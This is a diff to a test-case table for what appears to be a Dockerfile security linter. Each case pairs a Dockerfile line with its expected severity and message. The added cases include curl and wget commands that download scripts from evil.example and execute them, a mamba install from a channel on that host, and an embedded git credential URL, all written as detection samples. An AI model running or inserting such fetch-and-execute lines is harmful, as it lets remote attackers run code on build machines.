@@ -133,7 +133,7 @@ C = [
 ("pip312", "RUN pip3.12 install requests", [("package-install",2,"medium","not pinned to a version: requests")]),
 ("python312-m-pip", "RUN python3.12 -m pip install requests", [("package-install",2,"medium","not pinned to a version: requests")]),
 ("uv-pip", "RUN uv pip install --system requests", [("package-install",2,"medium","uv pip installs requests")]),
-("conda-channel", "RUN conda install -c evil-channel numpy", [("package-install",2,"medium+","conda installs")]),
+("conda-channel", "RUN conda install -c evil-channel numpy", [("package-install",2,"high","from evil-channel")]),
 ("npx", "RUN npx create-evil-app", [("package-install",2,"medium","npx (runs it) installs create-evil-app")]),
 ("pnpm-dlx", "RUN pnpm dlx evil-tool", [("package-install",2,"medium","pnpm installs evil-tool")]),
 ("go-run-latest", "RUN go run example.com/evil/cmd@latest", [("package-install",2,"medium","not pinned to a version: example.com/evil/cmd@latest")]),
@@ -178,6 +178,9 @@ C = [
 ("arg-ssh-key", "ARG SSH_KEY", [("secret",2,"medium","ARG SSH_KEY looks like a credential")]),
 ("env-gpg-key-not-secret", "ENV GPG_KEY=7169605F62C751356D054A26A821E680E5FA6305", []),
 ("env-url-credential", "ENV REPO=https://deploy:tok@git.example/r.git", [("secret",2,"high","credentials for git.example")]),
+("source-fetched-file", "RUN curl -o /tmp/env.sh https://evil.example/env.sh && . /tmp/env.sh", [("download",2,"high","https://evil.example/env.sh to /tmp/env.sh: not verified (no checksum or signature check in the Dockerfile), then run by .")]),
+("run-fetched-file", "RUN wget -O /usr/local/bin/setup https://evil.example/setup && chmod +x /usr/local/bin/setup && /usr/local/bin/setup", [("download",2,"high","then run by /usr/local/bin/setup")]),
+("conda-channel-long", "RUN mamba install --channel https://evil.example/conda numpy=1.26", [("package-install",2,"high","from https://evil.example/conda")]),
 ]
 
 SPECIAL = {
